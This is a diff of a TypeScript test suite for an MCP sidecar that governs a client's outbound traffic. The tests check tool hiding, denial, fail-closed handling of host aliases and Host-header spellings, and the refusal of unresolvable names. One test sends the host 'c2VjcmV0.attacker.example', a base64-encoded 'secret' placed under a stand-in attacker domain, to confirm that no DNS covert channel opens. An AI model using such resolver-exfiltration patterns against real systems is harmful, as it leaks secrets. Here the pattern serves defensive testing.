@@ -11,7 +11,7 @@ import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
 import type { McpError } from '@modelcontextprotocol/sdk/types.js';
 import { Agent, fetch as undiciFetch } from 'undici';
-import type { CaptureState } from '../../api/capture.js';
+import type { CaptureState } from '../../api/capture-state.js';
 import { replyMessages, startRecordedEverything, type RecordedEverything } from '../adversarial/harness.js';
 import { CLI, freePort, run, startCliSidecar } from '../support/processes.js';
 import { exchange as raw } from '../support/raw-socket.js';
@@ -159,30 +159,36 @@ const sentTool = (name: string) =>
   up.bodies().some((b) => (Array.isArray(b) ? b : [b]).some((m) => (m as { params?: { name?: string } })?.params?.name === name));
 
 describe('transparent listener: the SDK client dialling the server is governed', () => {
-  test.each(['127.0.0.1', 'localhost', 'LOCALHOST.', '[::ffff:127.0.0.1]', '127.1'])(
-    'URL host %s: hidden stays hidden, denied is denied, allowed works',
-    async (host) => {
-      up.clear();
-      const url = `http://${host}:${up.port}${upPath}`;
-      const { client, close } = await capturedClient(url, port);
-      try {
-        const names = (await client.listTools()).tools.map((t) => t.name);
-        expect(names).toContain('echo');
-        expect(names).not.toContain('get-env');
-        // A hidden tool is answered as the server answers an unknown one (a probe upstream, never get-env).
-        const hidden = await client.callTool({ name: 'get-env', arguments: {} });
-        expect(hidden).toMatchObject({ isError: true, content: [{ type: 'text', text: expect.stringContaining('not found') }] });
-        const denied = await client.callTool({ name: 'get-sum', arguments: { a: 1, b: 2 } }).catch((e: McpError) => e);
-        expect((denied as McpError).code).toBe(-32003);
-        expect((await client.callTool({ name: 'echo', arguments: { message: 'cap' } })).content).toEqual([{ type: 'text', text: 'Echo: cap' }]);
-      } finally {
-        await close();
-      }
-      expect(up.everything()).not.toContain('get-env');
-      expect(sentTool('get-sum')).toBe(false);
-      expect(sentTool('echo')).toBe(true);
-    },
-  );
+  test.each(['127.0.0.1', '[::ffff:127.0.0.1]', '127.1'])('URL host %s: hidden stays hidden, denied is denied, allowed works', async (host) => {
+    up.clear();
+    const url = `http://${host}:${up.port}${upPath}`;
+    const { client, close } = await capturedClient(url, port);
+    try {
+      const names = (await client.listTools()).tools.map((t) => t.name);
+      expect(names).toContain('echo');
+      expect(names).not.toContain('get-env');
+      // A hidden tool is answered as the server answers an unknown one (a probe upstream, never get-env).
+      const hidden = await client.callTool({ name: 'get-env', arguments: {} });
+      expect(hidden).toMatchObject({ isError: true, content: [{ type: 'text', text: expect.stringContaining('not found') }] });
+      const denied = await client.callTool({ name: 'get-sum', arguments: { a: 1, b: 2 } }).catch((e: McpError) => e);
+      expect((denied as McpError).code).toBe(-32003);
+      expect((await client.callTool({ name: 'echo', arguments: { message: 'cap' } })).content).toEqual([{ type: 'text', text: 'Echo: cap' }]);
+    } finally {
+      await close();
+    }
+    expect(up.everything()).not.toContain('get-env');
+    expect(sentTool('get-sum')).toBe(false);
+    expect(sentTool('echo')).toBe(true);
+  });
+
+  test.each(['localhost', 'LOCALHOST.'])('URL host %s (a DNS alias of the source, not in egress.allow): refused, not governed', async (host) => {
+    up.clear();
+    // Only a source's own host name or what egress.allow could match is resolved: an alias fails closed.
+    const r = await capturedClient(`http://${host}:${up.port}${upPath}`, port).catch((e: Error) => e);
+    expect(r).toBeInstanceOf(Error);
+    expect((r as Error).message).toContain(`egress to localhost:${up.port} is not allowed (see egress.allow)`);
+    expect(up.received).toHaveLength(0);
+  });
 
   test('over ::1 too (REDIRECT of IPv6 traffic delivers there)', async () => {
     const { client, close } = await capturedClient(up.url, port, '::1');
@@ -203,9 +209,9 @@ describe('transparent listener: every spelling of the source in Host is governed
     `[::ffff:127.0.0.1]:${p}`,
     `[::FFFF:7F00:1]:${p}`,
     `127.0.0.1.:${p}`,
-    `LocalHost:${p}`,
-    `localhost.:${p}`,
   ];
+  // A name for the source that is not its URL's host (nor in egress.allow) is not even resolved.
+  const aliases = (p: number) => [`LocalHost:${p}`, `localhost.:${p}`];
   test('each: a session opens, tools/list hides the hidden tool, calling it is refused and never reaches the server', async () => {
     for (const host of spellings(up.port)) {
       up.clear();
@@ -231,6 +237,13 @@ describe('transparent listener: every spelling of the source in Host is governed
       expect([host, r.status]).toEqual([host, 403]);
       expect(r.text).toContain('is an MCP source; only its governed MCP endpoint is reachable');
     }
+    for (const host of aliases(up.port)) {
+      for (const path of [upPath, '/other']) {
+        const r = await postAs(port, host, path, initialize);
+        expect([host, path, r.status]).toEqual([host, path, 403]);
+        expect(r.text).toContain('is not allowed (see egress.allow)');
+      }
+    }
     expect(up.received).toHaveLength(0);
   });
 });
@@ -249,9 +262,27 @@ describe('transparent listener: other destinations', () => {
       expect([host, out]).toEqual([host, expect.stringMatching(/^HTTP\/1.1 403/)]);
       expect(out).toContain('is not allowed');
     }
-    const unresolvable = await raw(port, 'GET / HTTP/1.1\r\nhost: nowhere.invalid\r\nconnection: close\r\n\r\n');
+    // An address entry (127.0.0.1:<allowed>) makes every name on its port worth resolving: this one does not resolve.
+    const unresolvable = await raw(port, `GET / HTTP/1.1\r\nhost: nowhere.invalid:${allowed.port}\r\nconnection: close\r\n\r\n`);
     expect(unresolvable).toMatch(/^HTTP\/1.1 502/);
     expect(other.seen).toEqual([]);
+  });
+
+  test('a name no source and no egress.allow entry could match is refused without a DNS lookup (no covert channel through the resolver)', async () => {
+    const lookups = async () => {
+      const m = await tg.sidecar.metrics.registry.getSingleMetric('thoughtgate_sidecar_dns_lookups_total')!.get();
+      return m.values.reduce((n, v) => n + v.value, 0);
+    };
+    const before = await lookups();
+    for (const host of ['c2VjcmV0.attacker.example', `c2VjcmV0.attacker.example:${other.port}`, 'nowhere.invalid', `localhost:${other.port}`]) {
+      const out = await raw(port, `GET / HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`);
+      expect([host, out]).toEqual([host, expect.stringMatching(/^HTTP\/1.1 403/)]);
+      expect(out).toContain('is not allowed (see egress.allow)');
+    }
+    expect(await lookups()).toBe(before);
+    // The oracle that the counter counts: a name on the allowed port is looked up.
+    await raw(port, `GET / HTTP/1.1\r\nhost: nowhere.invalid:${allowed.port}\r\nconnection: close\r\n\r\n`);
+    expect(await lookups()).toBeGreaterThan(before);
   });
 
   test('missing, duplicate or malformed Host, absolute-form, CONNECT and non-HTTP bytes are refused with 400', async () => {
@@ -420,7 +451,7 @@ describe('thoughtgate sidecar: the capture flags', () => {
       const ready = (await (await fetch(`${cli.admin}/ready`)).json()) as { capture: { state: { spec: { transparentPort: number } } } };
       expect(ready.capture.state.spec.transparentPort).toBe(transparentPort);
       up.clear();
-      const r = await postAs(transparentPort, `localhost:${up.port}`, upPath, initialize);
+      const r = await postAs(transparentPort, `127.0.0.1:${up.port}`, upPath, initialize);
       expect(r.status).toBe(200);
       expect(up.bodies()).toEqual([expect.objectContaining({ method: 'initialize' })]);
     } finally {
